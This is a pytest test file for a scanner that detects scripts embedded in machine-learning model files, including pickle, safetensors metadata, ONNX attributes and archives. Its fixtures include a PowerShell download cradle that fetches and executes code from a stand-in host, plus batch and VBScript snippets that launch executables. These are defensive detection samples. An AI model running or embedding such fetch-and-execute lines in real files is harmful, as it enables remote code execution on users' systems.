"""Scripts in models, and in texts about scripts: a text is no carrier, whether alone or in an archive."""

import io
import json
import pickle
import tarfile
import zipfile

import pytest

from fixtures import executables, onnxes, tensors
from modelaudit.pipeline import embedded
from modelaudit.pipeline.facts import facts

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
README = f'# Title\n\nInstall:\n\n```\n#!/bin/bash\nset -e\necho one\n```\n\n    powershell -c "{CRADLE}"\n'


def told(path, data: bytes) -> list[tuple[str, str, str]]:
    path.write_bytes(data)
    nodes = [node for tree in facts([str(path)], errors=[]) for node in tree.walk()]
    blobs = [(node.artifact, blob) for node in nodes for blob in node.facts.get("blob", ())]
    return [(artifact.path.removeprefix(str(path)), blob.kind, blob.region) for artifact, blob in blobs]


def test_a_script_in_a_text_is_text(tmp_path) -> None:
    assert told(tmp_path / "README.md", README.encode()) == []
    assert told(tmp_path / "a.py", f'import os\nA = """\n{README}"""\n'.encode()) == []


def archived(kind: str) -> bytes:
    whole = io.BytesIO()
    if kind.startswith("tar"):
        with tarfile.open(fileobj=whole, mode="w:gz" if kind == "tar.gz" else "w") as tar:
            info = tarfile.TarInfo("README.md")
            info.size = len(README)
            tar.addfile(info, io.BytesIO(README.encode()))
    else:
        with zipfile.ZipFile(whole, "w", zipfile.ZIP_STORED) as archive:
            archive.writestr("README.md", README)
    return whole.getvalue()


@pytest.mark.parametrize("kind", ["tar", "tar.gz", "zip"])
def test_a_text_in_an_archive_is_text(tmp_path, kind: str) -> None:
    assert told(tmp_path / f"source.{kind}", archived(kind)) == []


def test_what_a_text_shows_is_still_told_of_a_model(tmp_path) -> None:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("README.md", README)
        archive.writestr("m.safetensors", tensors.model() + b"\0" * 8 + CRADLE.encode())
    assert {kind for _, kind, _ in told(tmp_path / "m.zip", whole.getvalue())} == {"powershell"}


def test_a_script_in_a_constant(tmp_path) -> None:
    data = pickle.dumps({"a": "@echo off\r\nset A=1\r\nstart x.exe\r\n"}, protocol=4)
    assert told(tmp_path / "m.pkl", data) == [("", "batch", "content")]


def test_a_script_that_is_a_whole_file_is_told(tmp_path) -> None:
    assert told(tmp_path / "m.bin", b"@echo off\r\nset A=1\r\nstart x.exe\r\n") == [("", "batch", "file")]


def test_many_words_in_a_text_are_no_limit(tmp_path, monkeypatch) -> None:
    from modelaudit.parsers.executables import search

    monkeypatch.setattr(search, "HITS", 10)
    monkeypatch.setattr(embedded, "HITS", 10)
    (tmp_path / "a.txt").write_bytes(b"Use Invoke-WebRequest here.\n" * 40)
    (tree,) = facts([str(tmp_path / "a.txt")], errors=[])
    assert tree.artifact.coverage == "full"
    (tmp_path / "a.bin").write_bytes(b"\0\1Use Invoke-WebRequest here.\n" * 40)
    (tree,) = facts([str(tmp_path / "a.bin")], errors=[])
    assert [limit.what for limit in tree.facts["limit"]] == ["candidates"]


def test_a_header_alone_is_told_as_one(tmp_path) -> None:
    (tmp_path / "m.bin").write_bytes(b"\xff\0" * 50 + executables.elf()[:110])
    (tree,) = facts([str(tmp_path / "m.bin")], errors=[])
    assert [(blob.kind, blob.validated, blob.size) for blob in tree.facts["blob"]] == [("elf", False, 110)]


def test_a_header_in_a_tensor_is_chance(tmp_path) -> None:
    model = bytearray(tensors.model())
    head = executables.elf()[:110]
    before = len(model)
    at = before - 16
    model[at:] = head[:16]
    (tmp_path / "m.safetensors").write_bytes(bytes(model))
    (tree,) = facts([str(tmp_path / "m.safetensors")], errors=[])
    assert "blob" not in tree.facts


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("batch", "@echo off\r\nset A=1\r\nstart x.exe\r\n\r\nexit /b 0\r\n"),
        ("vbscript", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "one.exe", 0\r\n'),
    ],
)
def test_a_script_in_escaped_metadata_is_told(tmp_path, kind: str, value: str) -> None:
    head = json.dumps({"__metadata__": {"a": value}, "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}})
    data = len(head).to_bytes(8, "little") + head.encode() + b"\0"
    assert told(tmp_path / "m.safetensors", data) == [("", kind, "metadata")]


@pytest.mark.parametrize(
    ("script", "kind"),
    [(b"@echo off\r\nset x=1\r\ncopy a b\r\nstart c.exe\r\n", "batch"), (CRADLE.encode(), "powershell")],
)
def test_a_script_behind_the_length_of_a_field(tmp_path, script: bytes, kind: str) -> None:
    data = onnxes.model(onnxes.graph(onnxes.node("Relu", onnxes.attribute("a", 4, script, 3))))
    assert [found for _, found, _ in told(tmp_path / "m.onnx", data)] == [kind]
